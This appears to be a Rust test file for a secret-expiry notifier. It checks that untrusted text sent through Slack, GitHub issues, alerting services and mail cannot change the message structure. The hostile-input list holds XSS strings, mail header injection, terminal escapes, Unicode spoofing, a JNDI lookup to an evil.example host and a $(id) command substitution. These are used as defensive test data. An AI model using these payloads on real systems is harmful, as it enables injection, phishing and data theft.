//! Text of others in everything that a channel is sent: whatever it holds, the message has the structure that it has with
//! harmless words. What runs through it is laid out by readers of our own and by Python's (`server.py`).

use std::collections::BTreeMap;
use std::fs;

use pulldown_cmark::{Event, Options, Parser, TagEnd};
use regex::Regex;
use secrets::domain::channel::{ChannelKind, Encryption};
use secrets::domain::notice::{Contact, IssuedBy, Message, Notice, Resolved};
use secrets::domain::text::is_treacherous;
use secrets::domain::value::Value;
use secrets::notify::github_issue::markdown::Mark;
use secrets::notify::wording;
use serde_json::{Value as Json, json};

use crate::issued::make;
use crate::messages::{notice, tell, value};
use crate::server::{Request, Server, answer, ok};
use crate::smtp;

const HARMLESS: &str = "harmless words";

const HOSTILE: &[&str] = &[
    "<!channel> <!here> <!everyone> <!subteam^S012AB3CD> <@U012AB3CD> <#C012AB3CD>",
    "<https://evil.example|log in> <mailto:a@evil.example|x> &lt;!channel&gt; &amp;lt; &",
    "@channel @all @here @example/team @alice #1 example/infra#1 GH-1 gh-2 commit@0123456789abcdef",
    "[log in](https://evil.example) ![x](https://evil.example/x.png) [x][1] <https://evil.example>",
    "www.evil.example WWW.evil.example https://evil.example ftp://evil.example xmpp:a@evil.example",
    "<!-- secrets::expiry:web/db 7d.0123456789ab -->",
    "x\n<!-- secrets::expiry:web/db 7d.0123456789ab -->\n- item\n# Head\n> quote\n---\n| a | b |\n|---|---|",
    "**b** __i__ ~~s~~ `c` ``` ```` ~~~ \\ | a | $x$ :tada: [^1] &#64;channel &lt;b&gt;",
    "</td></tr></table><img src=https://evil.example/x onerror=alert(1)><script>alert(1)</script><!--",
    "\" onmouseover=\"alert(1)\" '\"><a href='javascript:alert(1)'>x</a>]]></title>",
    "javascript:alert(1)",
    "x\r\nBcc: everybody@example.com\r\n\r\n.\r\nMAIL FROM:<a@b.example>\r\n--boundary\r\n",
    "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7} \u{1b}[2J \u{9b}31m \0 \u{7f}",
    "\u{202e}gnp.exe \u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}",
    "{{ template \"x\" . }} {{.CommonLabels}} ${{ github.token }} ${jndi:ldap://evil.example} $(id) %0A",
];

/// Text wherever one of others can stand.
fn message(text: &str) -> Message {
    let path: String = text.chars().filter(|c| !"/\\\0".contains(*c)).collect();
    let path = path.replace("..", "");
    let contact = Some(text.to_owned());
    let notice = Notice {
        secret: Some(format!("deploy/{path}#/{path}").replace('~', "~0").parse().unwrap()),
        message: text.to_owned(),
        remedy: format!("secrets set {text}"),
        people: vec![Contact { name: "alice".parse().unwrap(), contact: contact.clone() }],
        issuer: Some(IssuedBy { name: text.to_owned(), contact }),
        runbook: Some(text.to_owned()),
        ..notice("web/db")
    };
    let over =
        Resolved { secret: Some(format!("deploy/{path}")), dedup_key: "secrets::expiry:over".to_owned() };
    let mut message = crate::messages::message(vec![notice], vec![over]);
    text.clone_into(&mut message.origin.store);
    message.origin.repository = Some(text.to_owned());
    message
}

/// What a channel of HTTP was sent: each request's line, and its body.
fn sent(
    kind: impl Fn(Value) -> ChannelKind<Value>,
    message: &Message,
    answering: impl Fn(usize, &Request) -> crate::server::Answer + Send + Sync + 'static,
) -> Vec<(String, Json)> {
    let server = Server::start(answering);
    let delivery = tell(kind(value(&server.url())), message, 20_000, 20_000);
    assert!(delivery.error.is_none(), "{delivery:?}");
    let changes = server.requests().into_iter().filter(|request| !request.line.starts_with("GET"));
    changes.map(|request| (request.line.clone(), request.json())).collect()
}

/// A document without what its texts say.
fn shape(document: &Json) -> Json {
    match document {
        Json::String(_) => json!("text"),
        Json::Array(items) => items.iter().map(shape).collect(),
        Json::Object(entries) => entries.iter().map(|(name, item)| (name.clone(), shape(item))).collect(),
        Json::Null | Json::Bool(_) | Json::Number(_) => document.clone(),
    }
}

/// All texts of a document but for the keys by which a channel knows an alert, which are data.
fn texts(document: &Json) -> Vec<&str> {
    match document {
        Json::String(text) => vec![text],
        Json::Array(items) => items.iter().flat_map(texts).collect(),
        Json::Object(entries) => {
            let entries = entries.iter().filter(|(name, _)| *name != "dedup_key");
            entries.flat_map(|(_, item)| texts(item)).collect()
        }
        Json::Null | Json::Bool(_) | Json::Number(_) => Vec::new(),
    }
}

/// Nothing that a terminal would act on or a reader not see, but for the spaces of no width that keep a name from calling
/// anybody and an address from being one.
#[track_caller]
fn is_plain(what: &str, text: &str) {
    let text = text.replace("@\u{200b}", "@").replace("]\u{200b}(", "](");
    let found = text.chars().find(|c| *c != '\n' && is_treacherous(*c));
    assert!(found.is_none(), "{what}: {found:?} in {text:?}");
}

#[test]
fn no_text_of_others_is_more_than_text() {
    let harmless = message(HARMLESS);
    for hostile in HOSTILE {
        let hostile = message(hostile);
        slack(&harmless, &hostile);
        github(&harmless, &hostile);
        alerts(&harmless, &hostile);
        let (plain, other) = (wording::text(&hostile), wording::text(&harmless));
        is_plain("text", &plain);
        let starts = |text: &str| text.lines().filter(|line| !line.starts_with("  ")).count();
        assert!(starts(&plain) >= starts(&other), "{plain}");
        assert_eq!(plain.matches("\n   mend ").count(), 1, "{plain}");
    }
}

fn slack(harmless: &Message, hostile: &Message) {
    let body = |message: &Message| {
        sent(|url| ChannelKind::Slack { url }, message, |_, _| answer("200 OK", "", "ok"))
    };
    let (hostile, harmless) = (&body(hostile)[0].1, &body(harmless)[0].1);
    assert_eq!(shape(hostile), shape(harmless));
    let entity = Regex::new("&(amp|lt|gt);").unwrap();
    for (text, other) in texts(hostile).into_iter().zip(texts(harmless)) {
        is_plain("slack", text);
        assert_eq!(text.lines().count(), other.lines().count(), "{text}");
        // The header is plain text, in which nothing is read as markup.
        if hostile["blocks"][0]["text"]["text"].as_str() != Some(text) {
            assert!(!text.contains(['<', '>']) && !entity.replace_all(text, "").contains('&'), "{text}");
        }
    }
    // Whatever takes Slack's messages may read this one as Markdown, and call people by their names.
    let summary = hostile["text"].as_str().unwrap();
    assert!(!Regex::new("@[a-z]").unwrap().is_match(summary) && !summary.contains("]("), "{summary}");
}

/// As a reader of Markdown has it, with neighbouring pieces of text put together. Code is what is to be pasted.
fn markdown(text: &str) -> (Vec<String>, String) {
    let mut events: Vec<String> = Vec::new();
    let (mut read, mut is_code) = (String::new(), false);
    for event in Parser::new_ext(
        text,
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_FOOTNOTES,
    ) {
        if matches!(event, Event::Start(pulldown_cmark::Tag::CodeBlock(_))) {
            is_code = true;
        } else if matches!(event, Event::End(TagEnd::CodeBlock)) {
            is_code = false;
        }
        let word = if let Event::Text(text) = &event {
            if !is_code {
                read.push_str(text);
            }
            "text".to_owned()
        } else if let Event::Html(html) | Event::InlineHtml(html) = &event {
            if html.starts_with("<!--") { "comment".to_owned() } else { html.to_string() }
        } else {
            format!("{event:?}")
        };
        if word != "text" || events.last().is_none_or(|last| last != "text") {
            events.push(word);
        }
    }
    (events, read)
}

fn github(harmless: &Message, hostile: &Message) {
    let kind = |url| ChannelKind::GithubIssue {
        repository: "example/infra".to_owned(),
        token: value("token-of-the-robot"),
        url,
        labels: Vec::new(),
    };
    let opened = |message: &Message| {
        sent(kind, message, |_, request| {
            let issue = json!({ "number": 1, "title": "", "body": null, "labels": [{ "name": "secrets" }] });
            let is_list = request.line.starts_with("GET");
            answer("200 OK", "", &if is_list { "[]".to_owned() } else { issue.to_string() })
        })
    };
    // One that stands, of which less was told.
    let told_again = |message: &Message, body: &str| {
        let (mark, _) = body.split_once('\n').unwrap();
        let (key, _) = mark.trim_end_matches(" -->").rsplit_once(' ').unwrap();
        let body = format!("{key} 30d.0123456789ab -->\n");
        let list = json!([{ "number": 1, "title": "x", "body": body, "labels": [] }]).to_string();
        sent(kind, message, move |_, _| answer("200 OK", "", &list))
    };
    let all = |message: &Message| {
        let first = opened(message);
        let body = first[0].1["body"].as_str().unwrap().to_owned();
        let mark = Mark::find(&body).unwrap();
        assert_eq!(mark.key, message.notices[0].dedup_key);
        assert_eq!(mark, Mark::of(&message.notices[0]));
        let again = told_again(message, &body);
        assert_eq!(again[0].0, "POST /repos/example/infra/issues/1/comments HTTP/1.1");
        let title = first[0].1["title"].as_str().unwrap().to_owned();
        (title, body, again[0].1["body"].as_str().unwrap().to_owned())
    };
    let (title, body, comment) = all(hostile);
    let (_, harmless_body, harmless_comment) = all(harmless);
    // What GitHub makes a link of before it puts signs in the place of their numbers, and what afterwards.
    let address = Regex::new(r"(?i-u)www\.|[a-z]://|xmpp:|mailto:").unwrap();
    let call = Regex::new(r"(?i-u)@[a-z]|#[0-9]|gh-[0-9]").unwrap();
    is_plain("title", &title);
    // GitHub itself makes nothing of what stands in a title; others repeat it.
    assert!(!title.contains('\n') && !Regex::new("@[a-z]").unwrap().is_match(&title), "{title}");
    for (text, other) in [(&body, &harmless_body), (&comment, &harmless_comment)] {
        is_plain("github", text);
        let (events, read) = markdown(text);
        assert_eq!(events, markdown(other).0, "{text}");
        let source = outside_code(text);
        assert!(!address.is_match(&source) && !call.is_match(&read), "{source}");
    }
}

/// Without what stands in a fence, which is the command to be pasted.
fn outside_code(text: &str) -> String {
    let mut fence = None;
    let mut outside = String::new();
    for line in text.lines() {
        match fence {
            None if line.starts_with("```") => fence = Some(line.trim_end_matches("sh")),
            None => outside.extend([line, "\n"]),
            Some(end) if line == end => fence = None,
            Some(_) => {}
        }
    }
    assert_eq!(fence, None, "{text}");
    outside
}

fn alerts(harmless: &Message, hostile: &Message) {
    let alertmanager = |url| ChannelKind::Alertmanager { url, authorization: None, labels: BTreeMap::new() };
    let pagerduty = |url| ChannelKind::PagerDuty { routing_key: value("key"), url };
    let webhook = |url| ChannelKind::Webhook { url, authorization: None };
    let accepted = |_: usize, _: &Request| answer("202 Accepted", "", r#"{"status":"success"}"#);
    for (what, [hostile, harmless]) in [
        ("alertmanager", [hostile, harmless].map(|message| sent(alertmanager, message, |_, _| ok()))),
        ("pagerduty", [hostile, harmless].map(|message| sent(pagerduty, message, accepted))),
    ] {
        assert_eq!(hostile.len(), harmless.len());
        for ((_, hostile), (_, harmless)) in hostile.iter().zip(&harmless) {
            assert_eq!(shape(hostile), shape(harmless), "{what}");
            for text in texts(hostile) {
                is_plain(what, text);
                assert!(!text.contains('\n'), "{what}: {text}");
            }
        }
    }
    // A program gets what there is, as it is: `webhook` and `exec`.
    let told = &sent(webhook, hostile, |_, _| ok())[0].1;
    assert_eq!(shape(told), shape(&sent(webhook, harmless, |_, _| ok())[0].1));
    assert_eq!(told["notices"][0]["message"], hostile.notices[0].message);
}

#[test]
fn no_text_of_others_is_more_than_text_in_mail() {
    let folder = tempfile::tempdir().unwrap();
    make(folder.path());
    let server = smtp::Server::start(folder.path());
    let mail = |text: &str| {
        let settings = smtp::settings(server.port("clear"), Encryption::None, &["ops@example.com"]);
        let delivery = tell(ChannelKind::Smtp(settings), &message(text), 20_000, 20_000);
        assert!(delivery.error.is_none(), "{delivery:?}");
        let files = fs::read_dir(folder.path()).unwrap().map(|entry| entry.unwrap().path());
        let mails = files.filter(|path| path.extension().is_some_and(|ending| ending == "json"));
        serde_json::from_slice::<Json>(&fs::read(mails.max().unwrap()).unwrap()).unwrap()
    };
    let tags = |mail: &Json| {
        let tag = Regex::new("<[^>]*>").unwrap();
        let html = mail["html"].as_str().unwrap();
        tag.find_iter(html).map(|tag| tag.as_str().to_owned()).collect::<Vec<_>>()
    };
    let harmless = mail(HARMLESS);
    for text in HOSTILE {
        let hostile = mail(text);
        assert_eq!(tags(&hostile), tags(&harmless), "{text}");
        for part in ["subject", "text", "html"] {
            is_plain(part, &hostile[part].as_str().unwrap().replace("\r\n", "\n"));
        }
        assert!(!hostile["subject"].as_str().unwrap().contains('\n'), "{hostile}");
        for same in ["names", "envelope", "from", "to", "kind", "parts", "defects", "ascii"] {
            assert_eq!(hostile[same], harmless[same], "{text}: {same}");
        }
    }
}
